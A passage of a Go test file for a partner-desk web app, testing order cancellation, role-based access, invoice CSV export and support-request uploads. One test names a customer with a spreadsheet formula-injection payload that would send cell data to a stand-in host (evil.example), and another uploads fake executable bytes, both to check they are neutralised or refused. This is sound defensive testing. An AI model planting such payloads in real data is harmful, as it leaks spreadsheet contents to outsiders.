package server_test

import (
	"bytes"
	"context"
	"encoding/csv"
	"fmt"
	"image"
	"image/color"
	"image/png"
	"net/http"
	"net/url"
	"regexp"
	"slices"
	"strconv"
	"strings"
	"testing"

	"partnerdesk/internal/app/apptest"
	"partnerdesk/internal/desk"
	"partnerdesk/internal/i18n"

	"github.com/PuerkitoBio/goquery"
)

// cnBase is the path of a purchase on the Software tab.
func cnBase(customerID, entID string) string {
	return "/customers/" + customerID + "/software/" + entID
}

// cnState reads a line's status and its number of cancellations.
func cnState(t *testing.T, env *apptest.Env, customerID, orderID string, line int) (string, int) {
	t.Helper()
	_, o, err := env.App.Service.Order(context.Background(), env.Actor(t, apptest.GlobalAdmin), customerID, orderID)
	if err != nil {
		t.Fatal(err)
	}
	n, err := env.App.Store.CountCancellations(context.Background(), orderID, line)
	if err != nil {
		t.Fatal(err)
	}
	return o.Lines[line].Status, n
}

func cnUnchanged(t *testing.T, env *apptest.Env, customerID, orderID string, what string) {
	t.Helper()
	if st, n := cnState(t, env, customerID, orderID, 0); st != desk.StatusActive || n != 0 {
		t.Errorf("%s: the line is %s with %d cancellations, want it untouched", what, st, n)
	}
}

// cnOptions reads the Order number drop-down: the order IDs and the selected one.
func cnOptions(d *goquery.Document) ([]string, string) {
	return swOptions(testid(d, "cancel-order"))
}

func cnText(s *goquery.Selection) string { return strings.Join(strings.Fields(s.Text()), " ") }

// The cancel dialog: the product's orders, the selected one's state, the acknowledgement the
// server enforces (R14), the confirmation with the invoice (R16), the Software tab updated
// (R19), and a second submission refused (R15).
func TestCancelDialogHTTP(t *testing.T) {
	env := apptest.Start(t)
	c := env.SignIn(t, apptest.AdminAgent)
	// A fresh one-year SQL Server Enterprise subscription: the same product as Contoso's
	// 31-day-old three-year order, so the dialog lists both.
	fresh := env.PlaceOrder(t, apptest.ContosoID, apptest.Line(t, "SQL Server Enterprise - 2 Core License Pack - 1 year", desk.TermP1Y, 1))
	ent := fresh.Lines[0].EntitlementID
	old, _ := swPurchase(t, env, apptest.ContosoID, "SQL Server Enterprise - 2 Core License Pack - 3 year")
	var oldOrder string
	_, items, _ := env.App.Service.Software(context.Background(), env.Actor(t, apptest.AdminAgent), apptest.ContosoID)
	var wantOrders []string
	for _, it := range items {
		if it.ProductID == fresh.Lines[0].ProductID {
			wantOrders = append(wantOrders, it.OrderID)
		}
		if it.ID == old {
			oldOrder = it.OrderID
		}
	}
	if len(wantOrders) < 2 || oldOrder == "" {
		t.Fatalf("Contoso has %d purchases of the product", len(wantOrders))
	}
	base := cnBase(apptest.ContosoID, ent)

	// htmx GET: the dialog fragment, not a page.
	res := env.Get(t, c, base+"/cancel", htmx()...)
	d := doc(t, res.Body)
	dlg := testid(d, "cancel-dialog")
	if res.StatusCode != http.StatusOK || dlg.Length() != 1 || !dlg.Is("dialog") || dlg.AttrOr("role", "") != "alertdialog" {
		t.Fatalf("GET dialog: %d, %d dialogs", res.StatusCode, dlg.Length())
	}
	if d.Find("html body nav, [data-testid=profile]").Length() != 0 || strings.Contains(strings.ToLower(res.Body), "<html") {
		t.Error("the htmx answer is a whole page, not the dialog fragment")
	}
	opts, sel := cnOptions(d)
	slices.Sort(opts)
	slices.Sort(wantOrders)
	if !slices.Equal(opts, wantOrders) || sel != fresh.ID {
		t.Errorf("order options %v (selected %s), want %v with %s selected", opts, sel, wantOrders, fresh.ID)
	}
	info := testid(d, "cancel-info")
	if info.AttrOr("data-state", "") != desk.CancelOK || !strings.Contains(cnText(info), "30 days left to cancel") ||
		!strings.Contains(cnText(testid(d, "cancel-credit-preview")), "365 of 365 days unused") {
		t.Errorf("cancel info: state %q, %q", info.AttrOr("data-state", ""), cnText(info))
	}
	if testid(d, "cancel-submit").Length() != 1 || testid(d, "cancel-ack").Length() != 1 || testid(d, "important").Length() != 1 {
		t.Error("a cancellable order has no Important message, checkbox or Submit")
	}
	if keep := testid(d, "cancel-close"); keep.Length() != 1 || !strings.Contains(keep.Text(), "Keep the purchase") {
		t.Error("no Keep the purchase button")
	}
	// Without htmx the same URL is a page (no JavaScript).
	if res := env.Get(t, c, base+"/cancel"); res.StatusCode != http.StatusOK || testid(doc(t, res.Body), "cancel-form").Length() != 1 ||
		testid(doc(t, res.Body), "profile").Length() != 1 {
		t.Errorf("GET dialog as a page: %d", res.StatusCode)
	}

	// Selecting the 31-day-old order: the window has passed, no Submit.
	res = env.Get(t, c, base+"/cancel?order_id="+url.QueryEscape(oldOrder), htmx()...)
	d = doc(t, res.Body)
	if _, sel := cnOptions(d); res.StatusCode != http.StatusOK || sel != oldOrder {
		t.Fatalf("select the old order: %d, selected %s", res.StatusCode, sel)
	}
	info = testid(d, "cancel-info")
	if info.AttrOr("data-state", "") != desk.CancelWindowPassed || !strings.Contains(cnText(info), "cancellation window of this order passed") {
		t.Errorf("old order info: state %q, %q", info.AttrOr("data-state", ""), cnText(info))
	}
	if testid(d, "cancel-submit").Length() != 0 || testid(d, "cancel-ack").Length() != 0 {
		t.Error("a window-passed order offers Submit")
	}
	// Submitting it anyway is refused.
	res = env.PostForm(t, c, base+"/cancel", url.Values{"order_id": {oldOrder}, "acknowledge": {"yes"}}, htmx()...)
	if res.StatusCode != http.StatusBadRequest || !strings.Contains(cnText(testid(doc(t, res.Body), "msg-danger")), "30-day cancellation window has passed") {
		t.Errorf("POST the old order: %d %q", res.StatusCode, cnText(testid(doc(t, res.Body), "msg-danger")))
	}
	cnUnchanged(t, env, apptest.ContosoID, oldOrder, "the window-passed order after a POST")

	// R14: without the acknowledgement, 400 with the message, nothing changed.
	res = env.PostForm(t, c, base+"/cancel", url.Values{"order_id": {fresh.ID}}, htmx()...)
	d = doc(t, res.Body)
	if res.StatusCode != http.StatusBadRequest || !strings.Contains(cnText(testid(d, "msg-danger")), "Tick the box") || testid(d, "cancel-confirmation").Length() != 0 {
		t.Errorf("POST without acknowledge: %d %q", res.StatusCode, cnText(testid(d, "msg-danger")))
	}
	if res.Header.Get("HX-Trigger") != "" {
		t.Errorf("a refused POST triggers %q", res.Header.Get("HX-Trigger"))
	}
	if res := env.PostForm(t, c, base+"/cancel", url.Values{"order_id": {fresh.ID}, "acknowledge": {"on"}}, htmx()...); res.StatusCode != http.StatusBadRequest {
		t.Errorf("POST with acknowledge=on: %d, want 400", res.StatusCode)
	}
	cnUnchanged(t, env, apptest.ContosoID, fresh.ID, "after POSTs without the acknowledgement")

	// With it: the confirmation at once, naming the invoice, and the list refreshes itself.
	res = env.PostForm(t, c, base+"/cancel", url.Values{"order_id": {fresh.ID}, "acknowledge": {"yes"}}, htmx()...)
	d = doc(t, res.Body)
	if res.StatusCode != http.StatusOK || testid(d, "cancel-confirmation").Length() != 1 {
		t.Fatalf("POST with acknowledge: %d %q", res.StatusCode, cnText(testid(d, "msg-danger")))
	}
	if got := cnText(testid(d, "cancel-confirmation")); !strings.Contains(got, fresh.ID) {
		t.Errorf("confirmation %q does not name the order", got)
	}
	if got := cnText(testid(d, "cancel-credit")); !strings.Contains(got, "INV-2026-11-HUF") {
		t.Errorf("credit message %q does not name invoice INV-2026-11-HUF", got)
	}
	if h := res.Header.Get("HX-Trigger"); h != "software-changed" {
		t.Errorf("HX-Trigger %q, want software-changed", h)
	}
	if st, n := cnState(t, env, apptest.ContosoID, fresh.ID, 0); st != desk.StatusCancelled || n != 1 {
		t.Errorf("after the POST: line %s, %d cancellations", st, n)
	}

	// R19: the Software tab shows the row cancelled, with the revoked note and no Get key.
	d = doc(t, env.Get(t, c, "/customers/"+apptest.ContosoID+"/software").Body)
	row := swRow(d, ent)
	if row.Length() != 1 || row.AttrOr("data-status", "") != desk.StatusCancelled || swIn(row, "revoked-note").Length() != 1 {
		t.Errorf("Software row: %d rows, status %q", row.Length(), row.AttrOr("data-status", ""))
	}
	for _, id := range []string{"get-key", "download", "copy-link", "cancel"} {
		if swIn(row, id).Length() != 0 {
			t.Errorf("the cancelled row still offers %s", id)
		}
	}

	// R15: a second POST is a 409 "already cancelled", and nothing more is credited.
	res = env.PostForm(t, c, base+"/cancel", url.Values{"order_id": {fresh.ID}, "acknowledge": {"yes"}}, htmx()...)
	if res.StatusCode != http.StatusConflict || !strings.Contains(cnText(testid(doc(t, res.Body), "msg-danger")), "already cancelled") {
		t.Errorf("second POST: %d %q", res.StatusCode, cnText(testid(doc(t, res.Body), "msg-danger")))
	}
	if _, n := cnState(t, env, apptest.ContosoID, fresh.ID, 0); n != 1 {
		t.Errorf("%d cancellations after a second POST", n)
	}
	// The dialog now says it was cancelled.
	d = doc(t, env.Get(t, c, base+"/cancel", htmx()...).Body)
	if st := testid(d, "cancel-info").AttrOr("data-state", ""); st != desk.CancelDone || testid(d, "cancel-submit").Length() != 0 {
		t.Errorf("dialog of the cancelled order: state %q", st)
	}
}

// R3 per route: the cancel dialog and its POST are for Admin agents and Global admins.
func TestCancelRoutesPerRole(t *testing.T) {
	env := apptest.Start(t)
	for _, who := range []string{"admin", "global", "sales", "helpdesk", "billing", "referrals", "customer"} {
		t.Run(who, func(t *testing.T) {
			o := env.PlaceOrder(t, apptest.ContosoID, apptest.Line(t, "Windows Server 2022 Standard - 2 Core", desk.TermNone, 1))
			base := cnBase(apptest.ContosoID, o.Lines[0].EntitlementID)
			c := env.SignIn(t, apptest.Users[who])
			get := env.Get(t, c, base+"/cancel", htmx()...)
			post := env.PostForm(t, c, base+"/cancel", url.Values{"order_id": {o.ID}, "acknowledge": {"yes"}}, htmx()...)
			if who == "admin" || who == "global" {
				if get.StatusCode != http.StatusOK || post.StatusCode != http.StatusOK || testid(doc(t, post.Body), "cancel-confirmation").Length() != 1 {
					t.Fatalf("GET %d, POST %d; want 200 and the confirmation", get.StatusCode, post.StatusCode)
				}
				if st, n := cnState(t, env, apptest.ContosoID, o.ID, 0); st != desk.StatusCancelled || n != 1 {
					t.Errorf("after the POST: %s, %d cancellations", st, n)
				}
				return
			}
			if get.StatusCode != http.StatusForbidden || post.StatusCode != http.StatusForbidden {
				t.Errorf("GET %d, POST %d; want 403", get.StatusCode, post.StatusCode)
			}
			if get.Header.Get("HX-Trigger") != "" || post.Header.Get("HX-Trigger") != "" || strings.Contains(post.Body, "cancel-confirmation") {
				t.Error("a refusal looks like a cancellation")
			}
			// Without htmx: the 403 page naming the roles.
			res := env.Get(t, c, base+"/cancel")
			d := doc(t, res.Body)
			if res.StatusCode != http.StatusForbidden || testid(d, "error-403").Length() != 1 || !strings.Contains(testid(d, "roles-needed").Text(), "Admin agent") {
				t.Errorf("GET page: %d, roles %q", res.StatusCode, testid(d, "roles-needed").Text())
			}
			cnUnchanged(t, env, apptest.ContosoID, o.ID, who+" POST")
		})
	}
}

// An order that needs a support request links to Report a problem, pre-filled with the
// customer's tenant ID, the order ID and the amount.
func TestCancelDialogSupportLink(t *testing.T) {
	env := apptest.Start(t)
	c := env.SignIn(t, apptest.AdminAgent)
	o := env.PlaceOrder(t, apptest.ContosoID, apptest.Line(t, "SQL Server 2022 Enterprise - 2 Core", desk.TermNone, 2))
	base := cnBase(apptest.ContosoID, o.Lines[0].EntitlementID)
	d := doc(t, env.Get(t, c, base+"/cancel", htmx()...).Body)
	info := testid(d, "cancel-info")
	if info.AttrOr("data-state", "") != desk.CancelNeedsSupport || testid(d, "needs-support").Length() != 1 {
		t.Fatalf("2 × SQL Server Enterprise: state %q", info.AttrOr("data-state", ""))
	}
	if !strings.Contains(cnText(info), "above the amount") {
		t.Errorf("info %q does not say the amount is the reason", cnText(info))
	}
	if testid(d, "cancel-submit").Length() != 0 {
		t.Error("an order that needs a support request offers Submit")
	}
	href := testid(d, "support-link").AttrOr("href", "")
	u, err := url.Parse(href)
	if err != nil || u.Path != "/support/new" {
		t.Fatalf("support link %q", href)
	}
	q := u.Query()
	// The amount as the reader writes money (the request is read by people).
	amount := i18n.Get("en").Money(desk.Money{Minor: o.Lines[0].Amounts.Gross, Currency: "HUF"})
	if q.Get("problem_type") != desk.ProblemRefund || !strings.Contains(q.Get("customer_ref"), apptest.ContosoID) ||
		q.Get("order_ref") != o.ID || q.Get("requested_amount") != amount {
		t.Errorf("support link query %v; want problem type %s, tenant %s, order %s, amount %q", q, desk.ProblemRefund, apptest.ContosoID, o.ID, amount)
	}
	// The form opens pre-filled.
	res := env.Get(t, c, href)
	f := doc(t, res.Body)
	if res.StatusCode != http.StatusOK {
		t.Fatalf("GET %s: %d", href, res.StatusCode)
	}
	for id, want := range map[string]string{"order_ref": o.ID, "requested_amount": amount} {
		if v := f.Find("#"+id).AttrOr("value", ""); v != want {
			t.Errorf("#%s = %q, want %q", id, v, want)
		}
	}
	if v := f.Find("#customer_ref").AttrOr("value", ""); !strings.Contains(v, apptest.ContosoID) || !strings.Contains(v, "contoso.onmicrosoft.com") {
		t.Errorf("#customer_ref = %q", v)
	}
	if _, sel := swOptions(f.Find("#problem_type")); sel != desk.ProblemRefund {
		t.Errorf("problem type %q", sel)
	}
	if v := f.Find("#title").AttrOr("value", ""); !strings.Contains(v, "Contoso") {
		t.Errorf("#title = %q", v)
	}
	// POSTing the dialog anyway is refused: this one needs a request.
	res = env.PostForm(t, c, base+"/cancel", url.Values{"order_id": {o.ID}, "acknowledge": {"yes"}}, htmx()...)
	if res.StatusCode != http.StatusBadRequest {
		t.Errorf("POST above the limit: %d, want 400", res.StatusCode)
	}
	cnUnchanged(t, env, apptest.ContosoID, o.ID, "a POST above the limit")
}

// Billing: invoices for Billing admins and Global admins; the CSV export has decimal amounts,
// negative credits, and cells a spreadsheet would run as formulas neutralised.
func TestBillingHTTP(t *testing.T) {
	env := apptest.Start(t)
	for _, who := range []string{"global", "billing", "admin", "sales", "helpdesk", "referrals", "customer"} {
		c := env.SignIn(t, apptest.Users[who])
		want := http.StatusForbidden
		if who == "global" || who == "billing" {
			want = http.StatusOK
		}
		for _, p := range []string{"/billing", "/billing/invoices/INV-2026-11-HUF", "/billing/invoices/INV-2026-11-HUF/csv"} {
			if res := env.Get(t, c, p); res.StatusCode != want {
				t.Errorf("%s GET %s: %d, want %d", who, p, res.StatusCode, want)
			} else if want == http.StatusForbidden && (strings.Contains(res.Body, "Contoso") || strings.Contains(res.Body, "INV-2026-11-HUF,")) {
				t.Errorf("%s GET %s: the 403 shows invoice data", who, p)
			}
		}
	}
	b := env.SignIn(t, apptest.BillingAdmin)
	d := doc(t, env.Get(t, b, "/billing").Body)
	var ids []string
	testid(d, "invoice-link").Each(func(_ int, s *goquery.Selection) { ids = append(ids, strings.TrimSpace(s.Text())) })
	if !slices.Contains(ids, "INV-2026-11-HUF") || !slices.Contains(ids, "INV-2026-11-USD") {
		t.Errorf("invoice list %v", ids)
	}
	if res := env.Get(t, b, "/billing/invoices/INV-2026-11-XXX"); res.StatusCode != http.StatusNotFound {
		t.Errorf("an invoice that does not exist: %d", res.StatusCode)
	}
	if res := env.Get(t, b, "/billing/invoices/nope"); res.StatusCode != http.StatusNotFound {
		t.Errorf("a malformed invoice ID: %d", res.StatusCode)
	}

	// A customer whose name a spreadsheet would run as a formula, with a charge and a credit.
	evil := `=HYPERLINK("http://evil.example/?x="&A1,"Click")`
	s := env.SignIn(t, apptest.SalesAgent)
	res := env.PostForm(t, s, "/customers", url.Values{"company_name": {evil}, "domain": {"formula.onmicrosoft.com"}, "country": {"US"},
		"address_line1": {"1 Main St"}, "city": {"Redmond"}, "postal_code": {"98052"}, "first_name": {"Eve"}, "last_name": {"Formula"}, "email": {"eve@formula.example"}})
	if res.StatusCode != http.StatusSeeOther {
		t.Fatalf("create the customer: %d", res.StatusCode)
	}
	custID := strings.TrimPrefix(res.Header.Get("Location"), "/customers/")
	custID, _, _ = strings.Cut(custID, "?")
	custID, _, _ = strings.Cut(custID, "/")
	o := env.PlaceOrder(t, custID, apptest.Line(t, "Windows Server 2022 Standard - 2 Core", desk.TermNone, 3))
	if o.Currency != "USD" {
		t.Fatalf("order currency %s", o.Currency)
	}
	if _, _, err := env.App.Service.Cancel(context.Background(), env.Actor(t, apptest.AdminAgent), desk.CancelRequest{CustomerID: custID, OrderID: o.ID, Lines: []int{0}}); err != nil {
		t.Fatal(err)
	}

	// The invoice page shows the name as text.
	d = doc(t, env.Get(t, b, "/billing/invoices/INV-2026-11-USD").Body)
	found := false
	testid(d, "invoice-customer").Each(func(_ int, s *goquery.Selection) { found = found || strings.TrimSpace(s.Find("h2").Text()) == evil })
	if !found {
		t.Error("the invoice page does not show the customer's name as typed")
	}
	if testid(d, "invoice-line-credit").Length() == 0 || testid(d, "invoice-line-charge").Length() == 0 {
		t.Error("the USD invoice shows no charges or no credits")
	}

	decimal := map[string]*regexp.Regexp{"USD": regexp.MustCompile(`^-?\d+\.\d{2}$`), "HUF": regexp.MustCompile(`^-?\d+$`)}
	for _, cur := range []string{"USD", "HUF"} {
		id := "INV-2026-11-" + cur
		res := env.Get(t, b, "/billing/invoices/"+id+"/csv")
		if res.StatusCode != http.StatusOK || !strings.HasPrefix(res.Header.Get("Content-Type"), "text/csv") ||
			!strings.Contains(res.Header.Get("Content-Disposition"), "attachment") {
			t.Fatalf("%s CSV: %d %s %s", id, res.StatusCode, res.Header.Get("Content-Type"), res.Header.Get("Content-Disposition"))
		}
		rows, err := csv.NewReader(strings.NewReader(res.Body)).ReadAll()
		if err != nil {
			t.Fatalf("%s CSV: %v", id, err)
		}
		header := []string{"invoiceId", "period", "customerId", "customerName", "orderId", "lineNumber", "kind", "description", "net", "tax", "gross", "currencyCode", "taxIncluded", "date",
			"servicePeriodStart", "servicePeriodEnd"}
		if len(rows) < 2 || !slices.Equal(rows[0], header) {
			t.Fatalf("%s CSV header %v (%d rows)", id, rows[0], len(rows))
		}
		_, lines, err := env.App.Service.Invoice(context.Background(), env.Actor(t, apptest.BillingAdmin), id)
		if err != nil {
			t.Fatal(err)
		}
		if len(rows)-1 != len(lines) {
			t.Errorf("%s CSV: %d rows, the invoice has %d lines", id, len(rows)-1, len(lines))
		}
		credits := 0
		for i, r := range rows[1:] {
			col := func(name string) string { return r[slices.Index(header, name)] }
			for _, f := range []string{"net", "tax", "gross"} {
				if !decimal[cur].MatchString(col(f)) {
					t.Errorf("%s row %d: %s %q is not a decimal string in major units", id, i+1, f, col(f))
				}
			}
			if col("invoiceId") != id || col("currencyCode") != cur || col("period") != "2026-11" {
				t.Errorf("%s row %d: %v", id, i+1, r)
			}
			gross, _ := strconv.ParseFloat(col("gross"), 64)
			switch col("kind") {
			case desk.InvoiceCredit:
				credits++
				if gross >= 0 || !strings.HasPrefix(col("gross"), "-") || !strings.HasPrefix(col("net"), "-") {
					t.Errorf("%s row %d: a credit of %s", id, i+1, col("gross"))
				}
			case desk.InvoiceCharge:
				if gross <= 0 {
					t.Errorf("%s row %d: a charge of %s", id, i+1, col("gross"))
				}
			default:
				t.Errorf("%s row %d: kind %q", id, i+1, col("kind"))
			}
			if i < len(lines) {
				l := lines[i]
				if want := (desk.Money{Minor: l.Gross, Currency: cur}).Decimal(); col("gross") != want || col("orderId") != l.OrderID {
					t.Errorf("%s row %d: gross %s order %s, want %s %s", id, i+1, col("gross"), col("orderId"), want, l.OrderID)
				}
			}
			for j, cell := range r {
				if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) && !decimal[cur].MatchString(cell) {
					t.Errorf("%s row %d: cell %s %q would run as a formula", id, i+1, header[j], cell)
				}
			}
			if col("customerId") == custID && col("customerName") != "'"+evil {
				t.Errorf("%s: the formula name is exported as %q, want it neutralised as %q", id, col("customerName"), "'"+evil)
			}
		}
		if credits == 0 {
			t.Errorf("%s CSV has no credits (the demo and this test cancelled purchases)", id)
		}
	}
}

// cnPNG is a tiny valid PNG.
func cnPNG(t *testing.T) []byte {
	t.Helper()
	img := image.NewRGBA(image.Rect(0, 0, 2, 2))
	img.Set(0, 0, color.RGBA{R: 255, A: 255})
	var b bytes.Buffer
	if err := png.Encode(&b, img); err != nil {
		t.Fatal(err)
	}
	return b.Bytes()
}

type cnFile struct {
	name string
	data []byte
}

// cnFileSupport posts Report a problem as a browser's multipart form.
func cnFileSupport(t *testing.T, env *apptest.Env, c *http.Client, fields url.Values, files ...cnFile) *apptest.Response {
	t.Helper()
	var fs []apptest.File
	for _, f := range files {
		fs = append(fs, apptest.File{Field: "files", Name: f.name, Data: f.data})
	}
	return env.PostMultipart(t, c, "/support", fields, fs...)
}

func cnSupportCount(t *testing.T, env *apptest.Env) int {
	t.Helper()
	reqs, err := env.App.Service.SupportRequests(context.Background(), env.Actor(t, apptest.GlobalAdmin))
	if err != nil {
		t.Fatal(err)
	}
	return len(reqs)
}

func cnSupportFields() url.Values {
	return url.Values{
		"problem_type": {desk.ProblemRefund}, "impact": {"high"}, "title": {"Refund the SQL Server order"},
		"customer_ref": {apptest.ContosoID}, "order_ref": {"ORDER-123"}, "refund_reason": {"Bought by mistake"},
		"requested_amount": {"123456 HUF"}, "description": {"Please refund the whole order."},
		"contact_name": {"Adam Agent"}, "contact_email": {"adminagent@partner.example"}, "contact_phone": {"+36 1 234 5678"},
	}
}

// Report a problem (SPEC §8): pre-filled from the query, multipart with checked attachments,
// listed with its status; a Global admin changes the status.
func TestSupportRequestsHTTP(t *testing.T) {
	env := apptest.Start(t)
	c := env.SignIn(t, apptest.AdminAgent)

	// Pre-filled from the query; the contact is the signed-in user.
	res := env.Get(t, c, "/support/new?problem_type=billing&order_ref=ORD-42&customer_ref="+url.QueryEscape(apptest.ContosoID)+"&requested_amount=100+HUF")
	d := doc(t, res.Body)
	if res.StatusCode != http.StatusOK || testid(d, "support-form").Length() != 1 {
		t.Fatalf("GET /support/new: %d", res.StatusCode)
	}
	if _, sel := swOptions(d.Find("#problem_type")); sel != "billing" {
		t.Errorf("problem type %q, want billing", sel)
	}
	for id, want := range map[string]string{"order_ref": "ORD-42", "customer_ref": apptest.ContosoID, "requested_amount": "100 HUF", "contact_email": apptest.AdminAgent} {
		if v := d.Find("#"+id).AttrOr("value", ""); v != want {
			t.Errorf("#%s = %q, want %q", id, v, want)
		}
	}
	if d := doc(t, env.Get(t, c, "/support/new").Body); func() string { _, s := swOptions(d.Find("#problem_type")); return s }() != desk.ProblemRefund {
		t.Error("Report a problem does not preselect CSP purchase/refund")
	}

	before := cnSupportCount(t, env)
	pngData := cnPNG(t)

	// Invalid input: 422, what was typed kept, the field errors shown.
	bad := cnSupportFields()
	bad.Set("title", " ")
	bad.Set("contact_email", "not-an-email")
	bad.Set("description", "Typed text <kept>")
	res = cnFileSupport(t, env, c, bad, cnFile{"shot.png", pngData})
	d = doc(t, res.Body)
	if res.StatusCode != http.StatusUnprocessableEntity || testid(d, "msg-danger").Length() != 1 {
		t.Fatalf("invalid request: %d", res.StatusCode)
	}
	if d.Find("#title-err").Text() == "" || d.Find("#contact_email-err").Text() == "" {
		t.Error("field errors for title and contact email not shown")
	}
	if v := d.Find("#description").Text(); v != "Typed text <kept>" {
		t.Errorf("description kept as %q", v)
	}
	if v := d.Find("#contact_email").AttrOr("value", ""); v != "not-an-email" {
		t.Errorf("contact email kept as %q", v)
	}
	if v := d.Find("#order_ref").AttrOr("value", ""); v != "ORDER-123" {
		t.Errorf("order ref kept as %q", v)
	}

	// A program is refused by its bytes, whatever its name says.
	exe := append([]byte("MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00"), bytes.Repeat([]byte{0}, 200)...)
	for _, name := range []string{"setup.exe", "screenshot.png"} {
		res = cnFileSupport(t, env, c, cnSupportFields(), cnFile{"shot.png", pngData}, cnFile{name, exe})
		d = doc(t, res.Body)
		if res.StatusCode != http.StatusUnprocessableEntity || !strings.Contains(testid(d, "files-error").Text(), "Attach only PNG") {
			t.Errorf("an MZ file named %s: %d, files error %q", name, res.StatusCode, testid(d, "files-error").Text())
		}
		if v := d.Find("#title").AttrOr("value", ""); v != "Refund the SQL Server order" {
			t.Errorf("title kept as %q after a refused file", v)
		}
	}
	// Six files are one too many.
	var six []cnFile
	for i := 0; i < 6; i++ {
		six = append(six, cnFile{fmt.Sprintf("shot%d.png", i), pngData})
	}
	res = cnFileSupport(t, env, c, cnSupportFields(), six...)
	d = doc(t, res.Body)
	if res.StatusCode != http.StatusUnprocessableEntity || testid(d, "files-error").Length() != 1 {
		t.Errorf("six files: %d", res.StatusCode)
	} else if got := testid(d, "files-error").Text(); !strings.Contains(got, "at most 5 files") {
		t.Errorf("six files: the error says %q, want %q", got, "Attach at most 5 files.")
	}
	if v := d.Find("#title").AttrOr("value", ""); v != "Refund the SQL Server order" {
		t.Errorf("title kept as %q after six files", v)
	}
	if n := cnSupportCount(t, env); n != before {
		t.Fatalf("refused requests were stored: %d → %d", before, n)
	}

	// A valid request with a PNG: 303 to the request, listed as New.
	res = cnFileSupport(t, env, c, cnSupportFields(), cnFile{`C:\Users\adam\shot "1".png`, pngData})
	loc := res.Header.Get("Location")
	if res.StatusCode != http.StatusSeeOther || !regexp.MustCompile(`^/support/[^/?]+(\?done=support_filed)?$`).MatchString(loc) {
		t.Fatalf("file a request: %d %q", res.StatusCode, loc)
	}
	reqPath, _, _ := strings.Cut(loc, "?")
	d = doc(t, env.Get(t, c, loc).Body)
	if ref := cnText(testid(d, "support-ref")); !regexp.MustCompile(`^SR-\d{6}: Refund the SQL Server order$`).MatchString(ref) {
		t.Errorf("request heading %q", ref)
	}
	if st := cnText(testid(d, "support-status")); st != "New" {
		t.Errorf("request status %q", st)
	}
	if !strings.Contains(cnText(testid(d, "msg-success")), "support request was filed") {
		t.Errorf("no confirmation: %q", cnText(testid(d, "msg-success")))
	}
	att := testid(d, "attachments").Find("a")
	if att.Length() != 1 {
		t.Fatalf("%d attachments listed", att.Length())
	}
	attName := strings.TrimSpace(att.Text())
	if strings.ContainsAny(attName, `\/"`) || !strings.HasSuffix(attName, ".png") {
		t.Errorf("attachment name %q keeps a path or quotes", attName)
	}
	list := doc(t, env.Get(t, c, "/support").Body)
	var row *goquery.Selection
	testid(list, "support-row").Each(func(_ int, s *goquery.Selection) {
		if s.Find(`a[href="`+reqPath+`"]`).Length() == 1 {
			row = s
		}
	})
	if row == nil || !strings.Contains(row.Text(), "Refund the SQL Server order") || cnText(row.Find(`[data-testid="support-status"]`)) != "New" {
		t.Fatalf("the request is not listed with status New")
	}

	// The attachment downloads as an attachment with its sniffed type, and the same bytes.
	href := att.AttrOr("href", "")
	res = env.Get(t, c, href)
	if res.StatusCode != http.StatusOK || res.Body != string(pngData) {
		t.Fatalf("GET %s: %d, %d bytes", href, res.StatusCode, len(res.Body))
	}
	if ct := res.Header.Get("Content-Type"); ct != "image/png" {
		t.Errorf("attachment Content-Type %q", ct)
	}
	if cd := res.Header.Get("Content-Disposition"); !strings.HasPrefix(cd, "attachment") || !strings.Contains(cd, attName) {
		t.Errorf("attachment Content-Disposition %q", cd)
	}
	if res.Header.Get("X-Content-Type-Options") != "nosniff" {
		t.Error("attachment without nosniff")
	}
	if res := env.Get(t, c, reqPath+"/attachments/nope"); res.StatusCode != http.StatusNotFound {
		t.Errorf("an attachment that does not exist: %d", res.StatusCode)
	}

	// Status: the Global admin changes it; the admin agent may not.
	if d := doc(t, env.Get(t, c, reqPath).Body); testid(d, "support-status-form").Length() != 0 {
		t.Error("the admin agent is offered the status form")
	}
	if res := env.PostForm(t, c, reqPath+"/status", url.Values{"status": {desk.SupportResolved}}); res.StatusCode != http.StatusForbidden {
		t.Errorf("admin agent changes the status: %d, want 403", res.StatusCode)
	}
	g := env.SignIn(t, apptest.GlobalAdmin)
	if res := env.PostForm(t, g, reqPath+"/status", url.Values{"status": {"bogus"}}); res.StatusCode != http.StatusBadRequest {
		t.Errorf("an unknown status: %d, want 400", res.StatusCode)
	}
	if st := cnText(testid(doc(t, env.Get(t, g, reqPath).Body), "support-status")); st != "New" {
		t.Errorf("status after refused changes: %q", st)
	}
	res = env.PostForm(t, g, reqPath+"/status", url.Values{"status": {desk.SupportInProgress}})
	if res.StatusCode != http.StatusSeeOther || !strings.HasPrefix(res.Header.Get("Location"), reqPath) {
		t.Fatalf("Global admin changes the status: %d %s", res.StatusCode, res.Header.Get("Location"))
	}
	d = doc(t, env.Get(t, g, reqPath).Body)
	if st := cnText(testid(d, "support-status")); st != "In progress" || testid(d, "support-status-form").Length() != 1 {
		t.Errorf("status after the change: %q", st)
	}
	list = doc(t, env.Get(t, c, "/support").Body)
	ok := false
	testid(list, "support-row").Each(func(_ int, s *goquery.Selection) {
		ok = ok || (s.Find(`a[href="`+reqPath+`"]`).Length() == 1 && cnText(s.Find(`[data-testid="support-status"]`)) == "In progress")
	})
	if !ok {
		t.Error("the list does not show the new status")
	}
}

// Support requests are for Admin agents, Helpdesk agents and Global admins.
func TestSupportRoutesPerRole(t *testing.T) {
	env := apptest.Start(t)
	for _, who := range []string{"admin", "helpdesk", "global", "sales", "billing", "referrals", "customer"} {
		c := env.SignIn(t, apptest.Users[who])
		allowed := who == "admin" || who == "helpdesk" || who == "global"
		for _, p := range []string{"/support", "/support/new"} {
			res := env.Get(t, c, p)
			if allowed && res.StatusCode != http.StatusOK || !allowed && res.StatusCode != http.StatusForbidden {
				t.Errorf("%s GET %s: %d", who, p, res.StatusCode)
			}
		}
		before := cnSupportCount(t, env)
		fields := cnSupportFields()
		fields.Set("title", "Filed by "+who)
		res := cnFileSupport(t, env, c, fields)
		if allowed && res.StatusCode != http.StatusSeeOther || !allowed && res.StatusCode != http.StatusForbidden {
			t.Errorf("%s POST /support: %d", who, res.StatusCode)
		}
		want := before
		if allowed {
			want++
		}
		if n := cnSupportCount(t, env); n != want {
			t.Errorf("%s POST /support: %d → %d requests", who, before, n)
		}
	}
}

// R6: invoices say whether their amounts include tax — per customer, in the page and the CSV.
func TestInvoicesSayWhetherTaxIsIncluded(t *testing.T) {
	env := apptest.Start(t)
	c := env.SignIn(t, "billing@partner.example")
